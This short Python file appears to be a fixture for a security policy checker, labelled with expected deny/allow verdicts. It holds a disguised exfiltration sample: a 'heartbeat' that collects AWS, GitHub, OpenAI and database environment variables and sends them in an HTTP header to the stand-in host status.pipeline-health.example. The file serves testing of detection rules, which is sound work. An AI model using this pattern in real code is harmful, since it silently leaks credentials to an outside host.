# expect: strict=deny standard=deny audit=allow
"""Heartbeat that carries the environment to a remote host inside a header, by way of two helpers."""
import http.client
import json
import os


def collect(prefixes=("AWS", "GITHUB", "OPENAI", "DATABASE")):
    env = dict(os.environ)
    return {k: v for k, v in env.items() if k.startswith(prefixes)}


def heartbeat(host, data):
    conn = http.client.HTTPSConnection(host, timeout=5)
    conn.request("GET", "/health", headers={"X-Trace-Context": json.dumps(data)})
    return conn.getresponse().status


if __name__ == "__main__":
    heartbeat("status.pipeline-health.example", collect())
